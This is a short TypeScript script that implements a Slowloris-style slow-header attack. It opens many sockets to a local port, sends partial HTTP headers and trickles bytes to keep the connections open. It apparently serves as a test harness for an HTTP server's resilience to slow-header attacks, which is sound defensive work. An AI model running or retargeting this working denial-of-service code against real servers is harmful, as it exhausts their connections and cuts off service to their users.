/**
 * The byte-at-a-time header attack: `node slowlorisClient.ts PORT CONNS PARTIAL_BYTES INTERVAL_MS`.
 * Each connection sends a partial head of PARTIAL_BYTES, then one more byte
 * every INTERVAL_MS. Prints `ready` once every connection holds its partial
 * head, and stops when stdin closes.
 */
import * as Net from "node:net"

const [port, conns, partial, interval] = process.argv.slice(2).map(Number) as [number, number, number, number]
const head = Buffer.from("GET / HTTP/1.1\r\nHost: t\r\nX-Slow: " + "a".repeat(partial), "latin1")
const sockets: Array<Net.Socket> = []
let opened = 0
for (let i = 0; i < conns; i++) {
  const s = Net.connect(port, "127.0.0.1", () => {
    s.write(head)
    if (++opened === conns) process.stdout.write("ready\n")
  })
  s.on("error", () => {})
  sockets.push(s)
}
// one byte per connection per interval, spread over the interval
let next = 0
const perTick = Math.max(1, Math.round(conns / interval))
const timer = setInterval(() => {
  for (let k = 0; k < perTick; k++) {
    const s = sockets[next++ % conns]!
    if (!s.destroyed) s.write("a")
  }
}, 1)
process.stdin.resume()
process.stdin.on("end", () => {
  clearInterval(timer)
  for (const s of sockets) s.destroy()
  process.exit(0)
})
